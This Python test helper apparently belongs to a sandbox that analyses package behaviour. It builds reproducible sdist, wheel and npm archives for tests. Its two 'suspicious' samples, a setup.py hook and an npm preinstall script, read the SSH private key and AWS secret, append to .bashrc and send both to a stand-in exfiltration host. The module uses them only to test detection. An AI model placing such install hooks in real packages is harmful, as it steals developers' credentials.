"""Build small test packages from source, without running any of their code on the host.

Archives are assembled with tarfile/zipfile directly (no `setup.py sdist`, no `npm pack`),
so a test package's hooks only ever run inside the sandbox under test.
"""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import tarfile
import textwrap
import zipfile
from collections.abc import Iterator
from pathlib import Path

# Names the suspicious packages use: under example.com (RFC 2606, documentation only), so they
# resolve in the fake DNS; *.example, *.test and *.invalid get NXDOMAIN there, as from a real resolver.
EXFIL_HOST = "exfil.osptrack-test.example.com"
EXFIL_PORT = 8080


# Every archive a test builds is byte-for-byte reproducible: the same members give the same bytes
# a second later (tar and zip member times, and the gzip header's own mtime, are all fixed).
MTIME = 1_700_000_000
ZIP_DATE = (2023, 11, 14, 22, 13, 20)  # MTIME in UTC, as zip's local-time fields hold it


def _add(tf: tarfile.TarFile, name: str, data: bytes, mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = mode
    info.mtime = MTIME
    tf.addfile(info, io.BytesIO(data))


@contextlib.contextmanager
def targz_writer(path: Path, compresslevel: int = 9) -> Iterator[tarfile.TarFile]:
    """targz_writer(path), but with the gzip header's mtime fixed (tarfile writes `now`)."""
    with (
        path.open("wb") as raw,
        gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=compresslevel) as gz,
        tarfile.open(fileobj=gz, mode="w") as tf,
    ):
        yield tf


def targz_bytes(members: dict[str, bytes | str], mode: int = 0o644) -> bytes:
    """A reproducible .tar.gz of `members` (text is UTF-8 encoded)."""
    buf = io.BytesIO()
    with (
        gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz,
        tarfile.open(fileobj=gz, mode="w") as tf,
    ):
        for name, data in members.items():
            _add(tf, name, data.encode() if isinstance(data, str) else data, mode)
    return buf.getvalue()


def zip_entry(name: str, compress_type: int = zipfile.ZIP_STORED) -> zipfile.ZipInfo:
    """A zip member with a fixed date (zipfile.writestr(name, ...) stamps the current time)."""
    info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
    info.compress_type = compress_type
    info.external_attr = 0o644 << 16
    return info


def make_sdist(
    dest: Path, name: str, version: str, setup_py: str, files: dict[str, str] | None = None
) -> Path:
    """A setuptools sdist `name-version.tar.gz` with PKG-INFO, setup.py and module files."""
    top = f"{name}-{version}"
    pkg_info = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: osptrack test package\n"
    members = {"PKG-INFO": pkg_info, "setup.py": textwrap.dedent(setup_py), **(files or {})}
    path = dest / f"{top}.tar.gz"
    with targz_writer(path) as tf:
        for rel, text in members.items():
            _add(tf, f"{top}/{rel}", text.encode())
    return path


def make_wheel(
    dest: Path, name: str, version: str, files: dict[str, str], requires: tuple[str, ...] = ()
) -> Path:
    """A pure-Python wheel with METADATA (and Requires-Dist), WHEEL and RECORD."""
    dist = name.replace("-", "_")
    info = f"{dist}-{version}.dist-info"
    members = dict(files)
    deps = "".join(f"Requires-Dist: {r}\n" for r in requires)
    members[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{deps}"
    members[f"{info}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: osptrack-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    members[f"{info}/RECORD"] = "".join(f"{rel},,\n" for rel in [*members, f"{info}/RECORD"])
    path = dest / f"{dist}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for rel, text in members.items():
            zf.writestr(zip_entry(rel), text)
    return path


def make_npm(
    dest: Path,
    name: str,
    version: str,
    files: dict[str, str],
    scripts: dict[str, str] | None = None,
    main: str = "index.js",
    extra: dict | None = None,
) -> Path:
    """An npm tarball (`package/` prefix, as `npm pack` lays it out)."""
    manifest = {"name": name, "version": version, "main": main, "license": "MIT", **(extra or {})}
    if scripts:
        manifest["scripts"] = scripts
    path = dest / f"{name.replace('@', '').replace('/', '-')}-{version}.tgz"
    with targz_writer(path) as tf:
        _add(tf, "package/package.json", json.dumps(manifest, indent=2).encode())
        for rel, text in files.items():
            _add(tf, f"package/{rel}", textwrap.dedent(text).encode())
    return path


# The malicious-looking behaviour both suspicious packages share, harmless by construction:
# the "exfiltration" goes to the fake network, the shell command is `id`.
PY_SUSPICIOUS = f'''
import os, socket, subprocess
def _osptrack_suspicious():
    home = os.path.expanduser("~")
    try:
        key = open(os.path.join(home, ".ssh", "id_rsa")).read()
    except OSError:
        key = ""
    with open(os.path.join(home, ".bashrc"), "a") as fh:
        fh.write("\\n# osptrack test persistence\\n")
    subprocess.run(["sh", "-c", "id"], check=False)
    try:
        addr = socket.getaddrinfo("{EXFIL_HOST}", {EXFIL_PORT}, socket.AF_INET, socket.SOCK_STREAM)[0][4]
        s = socket.create_connection(addr, timeout=3)
        body = ("aws=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "") + "&key=" + key[:200]).encode()
        s.sendall(b"POST /collect HTTP/1.1\\r\\nHost: {EXFIL_HOST}\\r\\nContent-Length: "
                  + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
        s.settimeout(3)
        try:
            s.recv(100)
        except OSError:
            pass
        s.close()
    except OSError as exc:
        print("osptrack-test: network failed", exc)
_osptrack_suspicious()
'''

JS_SUSPICIOUS = f"""
const fs = require("fs"), os = require("os"), path = require("path");
const dns = require("dns"), net = require("net"), cp = require("child_process");
const home = os.homedir();
let key = "";
try {{ key = fs.readFileSync(path.join(home, ".ssh", "id_rsa"), "utf8"); }} catch (e) {{}}
fs.appendFileSync(path.join(home, ".bashrc"), "\\n# osptrack test persistence\\n");
cp.execSync("sh -c id", {{ stdio: "inherit" }});
dns.lookup("{EXFIL_HOST}", 4, (err, address) => {{
  if (err) {{ console.log("osptrack-test: dns failed", err.code); return; }}
  const body = "aws=" + (process.env.AWS_SECRET_ACCESS_KEY || "") + "&key=" + key.slice(0, 200);
  const s = net.connect({{ host: address, port: {EXFIL_PORT} }}, () => {{
    s.write("POST /collect HTTP/1.1\\r\\nHost: {EXFIL_HOST}\\r\\nContent-Length: " + body.length + "\\r\\n\\r\\n" + body);
    setTimeout(() => s.destroy(), 500);
  }});
  s.on("error", (e) => console.log("osptrack-test: connect failed", e.code));
  s.setTimeout(3000, () => s.destroy());
}});
"""


def suspicious_sdist(dest: Path, name: str = "osptrack-evil", version: str = "1.0.0") -> Path:
    setup_py = (
        PY_SUSPICIOUS
        + f"\nfrom setuptools import setup\nsetup(name={name!r}, version={version!r}, py_modules=['osptrack_evil'])\n"
    )
    return make_sdist(dest, name, version, setup_py, {"osptrack_evil.py": "VALUE = 1\n"})


def suspicious_npm(dest: Path, name: str = "osptrack-evil", version: str = "1.0.0") -> Path:
    return make_npm(
        dest,
        name,
        version,
        {"preinstall.js": JS_SUSPICIOUS, "index.js": "module.exports = { value: 1 };\n"},
        scripts={"preinstall": "node preinstall.js"},
    )


def require_toolchain(ecosystem: str) -> None:
    """Fail, never skip, when a toolchain is missing: scripts/setup.sh installs all of them."""
    import pytest

    from osptrack.ecosystems import get

    missing = get(ecosystem).missing_toolchain()
    if missing:
        pytest.fail(f"toolchain missing (run scripts/setup.sh): {missing}")


def assert_phase_behaviour(result: dict, phase: str, host: str, port: int) -> None:
    """A hook's DNS lookup of `host`, connect to `port` and `<host-label>-ran` command are all in `phase`."""
    record = result["Analysis"][phase]
    hostnames = {q["Hostname"] for d in record["DNS"] or [] for q in d["Queries"]}
    assert host in hostnames, (phase, hostnames)
    assert any(s["Port"] == port for s in record["Sockets"] or []), record["Sockets"]
    commands = [" ".join(c["Command"]) for c in record["Commands"] or []]
    assert any(f"{host.split('.')[0]}-ran" in c for c in commands), commands


def analyze_all_phases(ecosystem: str, archive: Path, out: Path, timeout_s: float) -> dict:
    """Run install, import and execute on a local archive; the result.json, plus `_run_dir`."""
    from osptrack.run import AnalyzeOptions, analyze
    from osptrack.target import parse_target

    analyze(
        parse_target(ecosystem, str(archive)),
        AnalyzeOptions(phases=("install", "import", "execute"), timeout_s=timeout_s),
        out,
    )
    result = json.loads((out / "result.json").read_text())
    result["_run_dir"] = str(out)
    return result
